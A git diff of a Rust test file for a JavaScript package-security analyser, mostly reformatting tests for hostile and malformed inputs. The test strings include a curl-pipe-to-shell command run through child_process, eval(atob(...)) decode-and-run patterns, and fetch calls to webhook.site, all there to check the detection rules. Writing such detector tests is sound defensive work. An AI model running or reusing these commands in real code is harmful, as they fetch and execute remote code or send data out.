@@ -1,5 +1,6 @@
 //! Hostile and odd files: each ends, in bounded time and stack, with a problem where
 //! something was not analysed.
+#![expect(clippy::unwrap_used, reason = "test code")]
 
 use packguard_javascript::JavaScript;
 use packguard_sdk::testing::PackageBuilder;
@@ -7,7 +8,9 @@ use packguard_sdk::{Analysis, Analyzer as _, Severity};
 use proptest::prelude::*;
 
 fn analyse(path: &str, content: impl AsRef<[u8]>) -> Analysis {
-    let package = PackageBuilder::new("npm", "sample").file(path, content).build();
+    let package = PackageBuilder::new("npm", "sample")
+        .file(path, content)
+        .build();
     // The sandbox's stack.
     std::thread::Builder::new()
         .stack_size(1 << 20)
@@ -44,7 +47,11 @@ fn deep_nesting_is_a_problem_and_not_a_crash() {
         ("l:", "1", ""),
         ("do ", "1", " while(0)"),
     ] {
-        let text = format!("x = {}{middle}{}", open.repeat(100_000), close.repeat(100_000));
+        let text = format!(
+            "x = {}{middle}{}",
+            open.repeat(100_000),
+            close.repeat(100_000)
+        );
         let analysis = analyse("a.js", &text);
         assert_eq!(analysis.problems.len(), 1, "{open}");
     }
@@ -86,12 +93,20 @@ fn long_chains_that_do_not_nest_are_analysed() {
         format!("x{}; eval(atob(y))", ".then(f)".repeat(3_000)),
         format!("x = [{}]; eval(atob(y))", "1,".repeat(200_000)),
         format!("{}eval(atob(y))", "a();".repeat(100_000)),
-        format!("switch (a) {{ {} }} eval(atob(y))", "case 1: b(); break;".repeat(20_000)),
+        format!(
+            "switch (a) {{ {} }} eval(atob(y))",
+            "case 1: b(); break;".repeat(20_000)
+        ),
         format!("x = {}1; eval(atob(y))", "a || ".repeat(3_000)),
     ] {
         let analysis = analyse("a.js", &text);
         assert_eq!(analysis.problems, [], "{}", &text[..40]);
-        assert!(analysis.findings.iter().any(|finding| finding.rule == "js-decode-eval"));
+        assert!(
+            analysis
+                .findings
+                .iter()
+                .any(|finding| finding.rule == "js-decode-eval")
+        );
     }
 }
 
@@ -108,19 +123,32 @@ fn names_that_refer_to_each_other_end() {
     let doubling: String = (0..17)
         .map(|at| format!("const a{} = a{at} + a{at};", at + 1))
         .collect();
-    let analysis = analyse("a.js", format!("const a0 = '{}';{doubling} eval(a17)", "a".repeat(64)));
+    let analysis = analyse(
+        "a.js",
+        format!("const a0 = '{}';{doubling} eval(a17)", "a".repeat(64)),
+    );
     assert_eq!(analysis.problems.len(), 1);
     let calls: String = (0..40)
         .map(|at| format!("const f{} = (x) => f{at}(x) + f{at}(x);", at + 1))
         .collect();
-    analyse("a.js", format!("const f0 = (x) => x;{calls} eval(f40('a'))"));
+    analyse(
+        "a.js",
+        format!("const f0 = (x) => x;{calls} eval(f40('a'))"),
+    );
 }
 
 #[test]
 fn syntax_errors_are_problems_and_still_searched() {
-    let analysis = analyse("a.js", "}{ this is not javascript; eval(atob('x')) https://webhook.site/x");
+    let analysis = analyse(
+        "a.js",
+        "}{ this is not javascript; eval(atob('x')) https://webhook.site/x",
+    );
     assert_eq!(analysis.problems.len(), 1);
-    let rules: Vec<&str> = analysis.findings.iter().map(|finding| finding.rule.as_str()).collect();
+    let rules: Vec<&str> = analysis
+        .findings
+        .iter()
+        .map(|finding| finding.rule.as_str())
+        .collect();
     assert!(rules.contains(&"js-decode-eval"), "{rules:?}");
     assert!(rules.contains(&"js-indicator-host"), "{rules:?}");
 }
@@ -135,7 +163,10 @@ fn every_dialect_is_parsed() {
         ("e.js", "#!/usr/bin/env node\nconsole.log(1)"),
         ("f.cjs", "module.exports = await_ => 1"),
         ("g.mjs", "await import('x')"),
-        ("h.ts", "const a = <T,>(x: T): x is T => !!x; enum E { A = 1 }"),
+        (
+            "h.ts",
+            "const a = <T,>(x: T): x is T => !!x; enum E { A = 1 }",
+        ),
         ("i.tsx", "const a = <b<string> c={d!}>e</b>"),
         ("j.cts", "import a = require('a'); export = a"),
         ("k.js", "<!-- old browsers\nvar a = 1\n-->"),
@@ -151,14 +182,24 @@ fn every_dialect_is_parsed() {
 fn programs_without_extension_are_found_by_their_first_line_or_manifest() {
     let code = "require('child_process').exec('curl https://a.example | sh')";
     let analysis = analyse("bin/tool", format!("#!/usr/bin/env node\n{code}"));
-    assert!(analysis.findings.iter().any(|finding| finding.rule == "js-shell-download-run"));
+    assert!(
+        analysis
+            .findings
+            .iter()
+            .any(|finding| finding.rule == "js-shell-download-run")
+    );
     let package = PackageBuilder::new("npm", "sample")
         .file("package/package.json", r#"{"bin":{"tool":"./cli"}}"#)
         .file("package/cli", code)
         .file("package/LICENSE", "curl https://a.example | sh")
         .build();
     let analysis = JavaScript::analyze(&package).unwrap();
-    assert!(analysis.findings.iter().any(|finding| finding.rule == "js-shell-download-run"));
+    assert!(
+        analysis
+            .findings
+            .iter()
+            .any(|finding| finding.rule == "js-shell-download-run")
+    );
     assert_eq!(analysis.problems, []);
 }
 
@@ -168,7 +209,12 @@ fn a_huge_line_is_searched_as_text() {
     text.push_str("fetch('https://webhook.site/x')");
     let analysis = analyse("a.js", text);
     assert_eq!(analysis.problems.len(), 1);
-    assert!(analysis.findings.iter().all(|finding| finding.severity < Severity::Critical));
+    assert!(
+        analysis
+            .findings
+            .iter()
+            .all(|finding| finding.severity < Severity::Critical)
+    );
 }
 
 #[test]
